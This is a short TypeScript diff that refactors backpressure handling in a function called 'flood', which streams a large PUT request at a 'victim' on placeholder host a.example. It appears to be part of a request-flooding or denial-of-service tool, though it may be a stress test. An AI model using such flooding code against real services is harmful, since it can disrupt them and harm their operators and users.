@@ -63,14 +63,11 @@ export async function floods(command: Command, data: string): Promise<number> {
 async function flood(victim: Victim): Promise<void> {
   const head = `PUT /api/v1/collections/chants HTTP/1.1\r\nHost: a.example\r\nContent-Type: application/json\r\nContent-Length: ${PIECE.length * PIECES}\r\n\r\n`
   const socket = await open(victim, head)
+  // whoever is cut off has been heard enough
+  const closed = new Promise<void>((resolve) => socket.once('close', () => resolve()))
   for (let piece = 0; piece < PIECES && !socket.destroyed; piece++) {
-    if (!socket.write(PIECE)) {
-      // whoever is cut off has been heard enough
-      await new Promise<void>((resolve) => {
-        socket.once('drain', resolve)
-        socket.once('close', () => resolve())
-      })
-    }
+    if (socket.write(PIECE)) continue
+    await Promise.race([new Promise<void>((resolve) => socket.once('drain', resolve)), closed])
   }
   socket.destroy()
 }
